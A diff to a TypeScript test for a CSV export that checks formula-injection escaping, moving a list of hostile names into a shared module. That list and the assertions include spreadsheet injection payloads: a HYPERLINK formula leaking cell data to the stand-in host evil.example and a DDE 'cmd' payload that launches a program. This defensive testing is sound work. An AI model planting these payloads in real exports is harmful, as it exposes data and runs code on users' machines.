@@ -3,6 +3,7 @@ import { sql } from 'kysely';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { createDatabase } from '../../db/client.ts';
 import { createTestApp, type TestApp } from '../../testing/app.ts';
+import { HOSTILE_NAMES } from '../../testing/hostile-names.ts';
 import { staffClient } from '../../testing/staff.ts';
 import { csvOf } from './csv.ts';
 
@@ -25,21 +26,6 @@ async function sumUp(day: string, name: string, properties: object, times: numbe
     values (${`${day}T00:00:00Z`}, ${name}, ${JSON.stringify(properties)}, ${times})`.execute(owner.db);
   await owner.close();
 }
-
-/** Names that somebody who wants to run something on an administrator's computer would take. */
-const HOSTILE_NAMES = [
-  '=1+1',
-  '=HYPERLINK("http://evil.example/?"&A1,"click")',
-  '+2*3',
-  '-2+3',
-  '@SUM(1,2)',
-  '\t=5+5',
-  '\r=6+6',
-  '  =7+7',
-  "=cmd|' /C calc'!A0",
-  'Zoë "the" Ávila, Reis',
-  'first\nsecond',
-];
 
 /** As RFC 4180 has it. */
 const readCsv = (text: string): string[][] => {
@@ -129,9 +115,10 @@ describe('what was counted', () => {
     const names = rows.slice(1).map(([, , name]) => name);
     expect(names).toContain("'=1+1");
     expect(names).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
-    expect(names).toContain('Zoë "the" Ávila, Reis');
+    expect(names).toContain('Zoë "the" Ávila, Reis; Lima');
+    expect(names).toContain("Ana;'=8+8;");
     expect(names).toContain('first\nsecond');
-    expect(names.map((name) => (name ?? '').replace(/^'/, '')).toSorted()).toEqual(
+    expect(names.map((name) => (name ?? '').replaceAll(/(^|[;\t\r\n])'/g, '$1')).toSorted()).toEqual(
       ['Ana Lima', ...HOSTILE_NAMES].toSorted(),
     );
   });
